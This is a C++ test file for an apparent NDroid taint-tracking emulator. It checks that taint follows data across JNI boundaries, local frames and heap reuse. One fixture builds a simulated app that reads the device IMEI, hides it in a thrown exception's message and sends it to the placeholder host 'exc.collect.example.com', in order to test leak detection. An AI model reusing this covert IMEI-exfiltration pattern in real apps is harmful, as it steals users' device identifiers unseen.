// Deep JNI flow tests: nested native<->Java call stacks (the LIFO discipline
// of the JNI-entry phase machine) and the exception group of the DVM Hook
// Engine (paper §V-B "Exception": taint carried by a thrown exception's
// message).
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

TEST(NestedJni, JavaNativeJavaNativeTaintSurvives) {
  // main -> nativeOuter(x) -> Java relay(x) -> nativeInner(x) -> returns x.
  // The taint must survive both boundary crossings in each direction.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lnest/App;");

  apps::NativeLibBuilder lib(device, "libnest.so");
  auto& a = lib.a();

  // int nativeInner(JNIEnv*, jclass, int x) { return x + 1; }
  const GuestAddr fn_inner = lib.fn();
  a.add_imm(R(0), R(2), 1);
  a.ret();

  const GuestAddr cls_name = lib.cstr("nest/App");
  const GuestAddr relay_name = lib.cstr("relay");

  // int nativeOuter(JNIEnv*, jclass, int x):
  //   calls the Java method relay(x) via CallStaticIntMethodA.
  const GuestAddr fn_outer = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(5), R(2));  // x
  a.mov_imm32(R(1), cls_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(6), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm32(R(2), relay_name);
  a.mov_imm(R(3), 0);
  a.call(device.jni.fn("GetStaticMethodID"));
  a.mov(R(2), R(0));  // mid
  a.sub_imm(SP, SP, 8);
  a.str(R(5), SP, 0);  // args[0] = x
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov(R(3), SP);
  a.call(device.jni.fn("CallStaticIntMethodA"));
  a.add_imm(SP, SP, 8);
  a.add_imm(R(0), R(0), 100);
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  Method* inner = dvm.define_native(app, "inner", "II",
                                    kAccPublic | kAccStatic, fn_inner);
  // int relay(int x) { return inner(x) + 10; }
  CodeBuilder relay_cb;
  relay_cb.invoke(inner, {2}).move_result(0).add_imm(0, 0, 10)
      .return_value(0);
  dvm.define_method(app, "relay", "II", kAccPublic | kAccStatic, 3,
                    relay_cb.take());
  Method* outer = dvm.define_native(app, "outer", "II",
                                    kAccPublic | kAccStatic, fn_outer);

  const dvm::Slot r = dvm.call(*outer, {dvm::Slot{1, kTaintImei}});
  EXPECT_EQ(r.value, 112u);  // ((1 + 1) + 10) + 100
  EXPECT_EQ(r.taint & kTaintImei, kTaintImei);
  // Two JNI entries means two SourcePolicies with tainted args.
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 2u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 2u);
  EXPECT_GE(nd.dvm_hooks().jni_exit_restores, 1u);
}

struct ExceptionApp {
  Method* entry;
};

ExceptionApp build_exception_carrier(Device& device) {
  auto& dvm = device.dvm;
  dvm::ClassObject* exc_cls = dvm.define_class("Ljava/io/IOException;");
  exc_cls->add_instance_field("message", 'L');
  dvm::ClassObject* app = dvm.define_class("Lexc/App;");

  apps::NativeLibBuilder lib(device, "libexc.so");
  auto& a = lib.a();
  const GuestAddr exc_name = lib.cstr("java/io/IOException");

  // void thrower(JNIEnv*, jclass, jstring secret):
  //   p = GetStringUTFChars(secret); ThrowNew(env, IOException, p);
  const GuestAddr fn_thrower = lib.fn();
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.mov(R(5), R(0));  // message cstr (tainted via the TrustCall hook)
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), exc_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov(R(2), R(5));
  a.call(device.jni.fn("ThrowNew"));
  a.pop({R(4), R(5), PC});
  lib.install();

  Method* thrower = dvm.define_native(app, "thrower", "VL",
                                      kAccPublic | kAccStatic, fn_thrower);
  Method* src = device.framework.telephony->find_method("getDeviceId");
  Method* sink = device.framework.network->find_method("send");

  // main: s = getDeviceId(); thrower(s);
  //       exc = <pending>; msg = exc.message; send(host, msg)
  const dvm::Field* msg_field = exc_cls->find_instance_field("message");
  CodeBuilder cb;
  cb.invoke(src, {})
      .move_result(0)
      .invoke(thrower, {0})
      .move_exception(1)
      .iget(2, 1, msg_field->index)
      .const_string(3, "exc.collect.example.com")
      .invoke(sink, {3, 2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 4, cb.take());
  return ExceptionApp{entry};
}

TEST(ExceptionCarrier, TaintFlowsThroughThrowNew) {
  Device device;
  NDroid nd(device);
  const ExceptionApp app = build_exception_carrier(device);
  device.dvm.call(*app.entry, {});

  // The IMEI left through the exception message.
  EXPECT_EQ(device.kernel.network().bytes_sent_to("exc.collect.example.com"),
            "354958031234567");
  // NDroid's ThrowNew hook tainted the message string; the Java sink fired.
  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintImei);
  EXPECT_TRUE(nd.log().contains("ThrowNew Begin"));
  EXPECT_TRUE(nd.log().contains("to exception message"));
}

TEST(ExceptionCarrier, MissedByTaintDroidAlone) {
  Device device;
  const ExceptionApp app = build_exception_carrier(device);
  device.dvm.call(*app.entry, {});
  EXPECT_FALSE(device.kernel.network()
                   .bytes_sent_to("exc.collect.example.com")
                   .empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(NestedJni, ArgumentArrayOnStackCarriesTaint) {
  // Stacked JNI arguments (position >= 4) must be tainted via the
  // SourcePolicy stack_args_taints path and be recoverable by iref.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lstk/App;");

  apps::NativeLibBuilder lib(device, "libstk.so");
  auto& a = lib.a();
  // int f(JNIEnv*, jclass, int, int, jstring s):
  //   s is JNI position 4 (stacked); GetStringUTFChars(s); return strlen.
  const GuestAddr fn = lib.fn();
  a.push({R(4), LR});
  a.ldr(R(1), SP, 8);  // stacked arg (entry [sp], +8 for the two pushes)
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.call(device.libc.fn("strlen"));
  a.pop({R(4), PC});
  lib.install();

  Method* f = dvm.define_native(app, "f", "IIIL",
                                kAccPublic | kAccStatic, fn);
  Method* src = device.framework.contacts->find_method("queryContacts");
  CodeBuilder cb;
  cb.const_imm(0, 1)
      .const_imm(1, 2)
      .invoke(src, {})
      .move_result(2)
      .invoke(f, {0, 1, 2})
      .move_result(3)
      .return_value(3);
  Method* entry = dvm.define_method(app, "main", "I",
                                    kAccPublic | kAccStatic, 4, cb.take());
  const dvm::Slot r = dvm.call(*entry, {});
  EXPECT_EQ(r.value, 19u);  // strlen("1|Vincent|cx@gg.com")
  // strlen's model taints the result from the (tainted) buffer bytes.
  EXPECT_EQ(r.taint & kTaintContacts, kTaintContacts);
}

TEST(ObjectShadow, DiesWithItsReference) {
  // int f(JNIEnv*, jclass, jstring s) { return strlen(GetStringUTFChars(s)); }
  // called once with a tainted string, then 5,000 times with clean ones.
  // Every call hands s the same local slot with a 12-bit serial, so the
  // handle of the tainted call comes back 4,096 calls later. Its shadow
  // taint must have died with it, and its SourcePolicy with its call.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lshadow/App;");
  apps::NativeLibBuilder lib(device, "libshadow.so");
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.push({R(4), LR});
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.call(device.libc.fn("strlen"));
  a.pop({R(4), PC});
  lib.install();
  Method* f = dvm.define_native(app, "f", "IL", kAccPublic | kAccStatic, fn);

  dvm::Object* secret = dvm.new_string("354958031234567");
  EXPECT_EQ(dvm.call(*f, {dvm::Slot{secret->addr(), kTaintImei}}).taint &
                kTaintImei,
            kTaintImei);
  u32 tainted_clean_calls = 0;
  for (u32 i = 0; i < 5000; ++i) {
    dvm::Object* clean = dvm.new_string("monkey-input");
    tainted_clean_calls +=
        dvm.call(*f, {dvm::Slot{clean->addr(), kTaintClear}}).taint !=
        kTaintClear;
  }
  EXPECT_EQ(tainted_clean_calls, 0u);
  EXPECT_EQ(dvm.irt().live_count(), 0u);
}

TEST(SourcePolicy, RegisterArgumentTaintEndsWithItsCall) {
  // int add1(JNIEnv*, jclass, int x) { return x + 1; }: x arrives in r2.
  // A clean call after a tainted one must find r2's shadow clear.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lpercall/Reg;");
  apps::NativeLibBuilder lib(device, "libpercallreg.so");
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.add_imm(R(0), R(2), 1);
  a.ret();
  lib.install();
  Method* add1 =
      dvm.define_native(app, "add1", "II", kAccPublic | kAccStatic, fn);

  const dvm::Slot tainted = dvm.call(*add1, {dvm::Slot{1, kTaintImei}});
  EXPECT_EQ(tainted.value, 2u);
  EXPECT_EQ(tainted.taint, kTaintImei);
  const dvm::Slot clean = dvm.call(*add1, {dvm::Slot{1, kTaintClear}});
  EXPECT_EQ(clean.value, 2u);
  EXPECT_EQ(clean.taint, kTaintClear);
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 1u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 1u);
}

TEST(SourcePolicy, StackArgumentTaintEndsWithItsCall) {
  // int third(JNIEnv*, jclass, int a, int b, int c) { return c + 1; }: c is
  // JNI position 4, the first stack argument, at [sp] on entry. A clean call
  // after a tainted one reuses the slot and must find its shadow clear.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lpercall/Stack;");
  apps::NativeLibBuilder lib(device, "libpercallstack.so");
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.ldr(R(0), SP, 0);
  a.add_imm(R(0), R(0), 1);
  a.ret();
  lib.install();
  Method* third =
      dvm.define_native(app, "third", "IIII", kAccPublic | kAccStatic, fn);

  const dvm::Slot tainted = dvm.call(
      *third, {dvm::Slot{0, 0}, dvm::Slot{0, 0}, dvm::Slot{1, kTaintImei}});
  EXPECT_EQ(tainted.value, 2u);
  EXPECT_EQ(tainted.taint, kTaintImei);
  const dvm::Slot clean = dvm.call(
      *third, {dvm::Slot{0, 0}, dvm::Slot{0, 0}, dvm::Slot{1, kTaintClear}});
  EXPECT_EQ(clean.value, 2u);
  EXPECT_EQ(clean.taint, kTaintClear);
}

TEST(ObjectShadow, FollowsAPoppedFrameSurvivor) {
  // int f(JNIEnv*, jclass, jstring s):
  //   PushLocalFrame(16); t = PopLocalFrame(s); return GetStringUTFChars(t);
  // s's taint is known only by its shadow; the promoted handle t must
  // carry it into the buffer.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lframe/App;");
  apps::NativeLibBuilder lib(device, "libframe.so");
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));
  a.mov(R(5), R(2));
  a.mov_imm(R(1), 16);
  a.call(device.jni.fn("PushLocalFrame"));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.call(device.jni.fn("PopLocalFrame"));
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.pop({R(4), R(5), R(6), PC});
  lib.install();
  Method* f = dvm.define_native(app, "f", "IL", kAccPublic | kAccStatic, fn);

  dvm::Object* secret = dvm.new_string("354958031234567");
  const GuestAddr buf =
      dvm.call(*f, {dvm::Slot{secret->addr(), kTaintImei}}).value;
  EXPECT_EQ(nd.taint_engine().map().get_range(buf, 15), kTaintImei);
}

TEST(HeapReuse, ReleasedStringBufferKeepsNoStaleTaint) {
  // source(s): p = GetStringUTFChars(s); ReleaseStringUTFChars(s, p);
  // sink(s): return GetStringUTFChars(s). The clean string's buffer reuses
  // the tainted one's block and must read clean.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lreuse/App;");
  apps::NativeLibBuilder lib(device, "libreuse.so");
  auto& a = lib.a();
  const GuestAddr source_fn = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));
  a.mov(R(5), R(2));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.mov(R(6), R(0));
  a.mov(R(2), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.call(device.jni.fn("ReleaseStringUTFChars"));
  a.mov(R(0), R(6));
  a.pop({R(4), R(5), R(6), PC});
  const GuestAddr sink_fn = lib.fn();
  a.push({R(4), LR});
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.pop({R(4), PC});
  lib.install();
  Method* source = dvm.define_native(app, "source", "IL",
                                     kAccPublic | kAccStatic, source_fn);
  Method* sink =
      dvm.define_native(app, "sink", "IL", kAccPublic | kAccStatic, sink_fn);
  const auto& map = nd.taint_engine().map();

  dvm::Object* secret = dvm.new_string("354958031234567");
  dvm.heap().set_object_taint(*secret, kTaintImei);
  const GuestAddr released =
      dvm.call(*source, {dvm::Slot{secret->addr(), kTaintClear}}).value;
  EXPECT_EQ(map.get_range(released, 16), kTaintImei);  // the stale taint

  dvm::Object* clean = dvm.new_string("000000000000000");
  const GuestAddr buf =
      dvm.call(*sink, {dvm::Slot{clean->addr(), kTaintClear}}).value;
  EXPECT_EQ(buf, released);
  EXPECT_EQ(device.memory.read_cstr(buf), "000000000000000");
  EXPECT_EQ(map.get_range(buf, 16), kTaintClear);
}

/// int f(JNIEnv*, jclass, int[] arr, int v):
///   p = GetIntArrayElements(arr); p[0] = v;
///   ReleaseIntArrayElements(arr, p, mode); return p.
GuestAddr emit_store_and_release(Device& device, apps::NativeLibBuilder& lib,
                                 u32 mode) {
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));
  a.mov(R(5), R(2));
  a.mov(R(6), R(3));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetIntArrayElements"));
  a.str(R(6), R(0), 0);
  a.mov(R(7), R(0));
  a.mov(R(2), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(3), mode);
  a.call(device.jni.fn("ReleaseIntArrayElements"));
  a.mov(R(0), R(7));
  a.pop({R(4), R(5), R(6), R(7), PC});
  return fn;
}

TEST(HeapReuse, ReleasedArrayBufferKeepsNoStaleTaint) {
  // A tainted array's elements, released with JNI_ABORT; a clean array's
  // elements then get the same block and must read clean.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lreuse/Arrays;");
  apps::NativeLibBuilder lib(device, "libreusearrays.so");
  const GuestAddr source_fn =
      emit_store_and_release(device, lib, jni::kJniAbort);
  auto& a = lib.a();
  const GuestAddr sink_fn = lib.fn();
  a.push({R(4), LR});
  a.mov(R(1), R(2));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetIntArrayElements"));
  a.pop({R(4), PC});
  lib.install();
  Method* source = dvm.define_native(app, "source", "ILI",
                                     kAccPublic | kAccStatic, source_fn);
  Method* sink =
      dvm.define_native(app, "sink", "IL", kAccPublic | kAccStatic, sink_fn);
  const auto& map = nd.taint_engine().map();

  dvm::Object* secret = dvm.heap().new_array(nullptr, 4, 4, false);
  dvm.heap().set_object_taint(*secret, kTaintImei);
  const GuestAddr released =
      dvm.call(*source,
               {dvm::Slot{secret->addr(), kTaintClear}, dvm::Slot{5, 0}})
          .value;
  EXPECT_EQ(map.get_range(released, 16), kTaintImei);

  dvm::Object* clean = dvm.heap().new_array(nullptr, 4, 4, false);
  const GuestAddr buf =
      dvm.call(*sink, {dvm::Slot{clean->addr(), kTaintClear}}).value;
  EXPECT_EQ(buf, released);
  EXPECT_EQ(map.get_range(buf, 16), kTaintClear);
}

TEST(ReleaseArrayElements, CommitCopiesTaintBackAndAbortDoesNot) {
  // Native code stores a tainted int into the elements and releases them:
  // JNI_COMMIT copies value and taint back into the array; JNI_ABORT
  // copies neither.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lrelease/App;");
  apps::NativeLibBuilder lib(device, "librelease.so");
  const GuestAddr commit_fn =
      emit_store_and_release(device, lib, jni::kJniCommit);
  const GuestAddr abort_fn =
      emit_store_and_release(device, lib, jni::kJniAbort);
  lib.install();
  Method* commit = dvm.define_native(app, "commit", "ILI",
                                     kAccPublic | kAccStatic, commit_fn);
  Method* aborting = dvm.define_native(app, "abort", "ILI",
                                       kAccPublic | kAccStatic, abort_fn);

  dvm::Object* committed = dvm.heap().new_array(nullptr, 2, 4, false);
  const GuestAddr kept =
      dvm.call(*commit, {dvm::Slot{committed->addr(), kTaintClear},
                         dvm::Slot{77, kTaintImei}})
          .value;
  EXPECT_EQ(dvm.heap().array_get(*committed, 0), 77u);
  EXPECT_EQ(dvm.heap().object_taint(*committed) & kTaintImei, kTaintImei);
  EXPECT_NE(device.kernel.heap().block_size(kept), 0u);  // still the native's

  dvm::Object* aborted = dvm.heap().new_array(nullptr, 2, 4, false);
  const GuestAddr freed =
      dvm.call(*aborting, {dvm::Slot{aborted->addr(), kTaintClear},
                           dvm::Slot{77, kTaintImei}})
          .value;
  EXPECT_EQ(dvm.heap().array_get(*aborted, 0), 0u);
  EXPECT_EQ(dvm.heap().object_taint(*aborted), kTaintClear);
  EXPECT_EQ(device.kernel.heap().block_size(freed), 0u);
}

}  // namespace
}  // namespace ndroid::core
